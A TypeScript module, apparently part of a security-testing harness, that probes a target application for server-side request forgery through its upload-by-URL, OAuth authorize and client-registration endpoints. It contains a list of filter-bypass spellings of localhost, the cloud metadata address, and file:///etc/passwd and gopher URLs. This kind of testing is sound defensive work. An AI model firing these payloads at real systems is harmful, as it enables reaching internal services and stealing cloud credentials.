import { once } from 'node:events'
import { type AddressInfo, createServer } from 'node:net'
import type { AttackContext, Surface } from './surface.ts'

/** Addresses that reach the machine itself or its cloud, in the spellings that filters have missed elsewhere. */
function internalUrls(port: number): readonly string[] {
  const hosts = [
    ...['127.0.0.1', 'localhost', '0.0.0.0', '[::1]', '[::]', '[::ffff:127.0.0.1]', '127.1', '2130706433'],
    ...[
      '0x7f000001',
      '0177.0.0.1',
      '127.0.0.1.',
      'localhost.',
      '①②⑦.⓪.⓪.①',
      '[fe80::1]',
      '[64:ff9b::7f00:1]',
    ],
    ...['evil.example@127.0.0.1', '127.0.0.1#evil.example', '127.0.0.1%00.evil.example'],
  ]
  return [
    ...hosts.flatMap((host) => [`http://${host}:${port}/a.png`, `https://${host}:${port}/a.png`]),
    ...[
      'http://169.254.169.254/latest/meta-data/',
      'http://[fd00:ec2::254]/',
      'http://10.0.0.1/',
      'http://192.168.0.1/',
    ],
    ...[
      'file:///etc/passwd',
      'gopher://127.0.0.1/',
      'ftp://127.0.0.1/a',
      'data:text/plain,a',
      'unix:/tmp/s',
      'http:///a',
    ],
  ]
}

/** Requests that the server sends to a URL of its caller: uploads by URL, and metadata documents of clients. */
export const ssrf: Surface = {
  name: 'SSRF',
  async attack(context) {
    let connections = 0
    const listener = createServer((socket) => {
      connections++
      socket.destroy()
    }).listen(0)
    await once(listener, 'listening')
    try {
      const { port } = listener.address() as AddressInfo
      for (const url of internalUrls(port)) await fetchFrom(context, url)
    } finally {
      listener.close()
    }
    if (connections > 0) context.tally.succeeded(`${connections} connections to this machine`)
  },
}

async function fetchFrom({ target, callers, tally }: AttackContext, url: string) {
  const [owner, member] = ['owner session', 'member session'].map(
    (wanted) => callers().all.find(({ name }) => name === wanted)?.headers ?? {},
  )
  const headers = { ...owner, 'content-type': 'application/json' }
  const payload = JSON.stringify({ url, address: url, purpose: 'picture', name: 'a.png' })
  await target.send(tally, { method: 'POST', url: '/api/v1/uploads/from_address', headers, payload })
  const query = new URLSearchParams({
    response_type: 'code',
    client_id: url,
    redirect_uri: url,
    scope: 'openid',
    state: 's',
  })
  await target.send(tally, { url: `/oauth/authorize?${query}`, headers: { ...member } })
  const metadata = { client_name: 'A', redirect_uris: [url], logo_uri: url, jwks_uri: url, client_uri: url }
  await target.send(tally, {
    method: 'POST',
    url: '/api/oauth/register',
    headers: { 'content-type': 'application/json' },
    payload: JSON.stringify(metadata),
  })
}
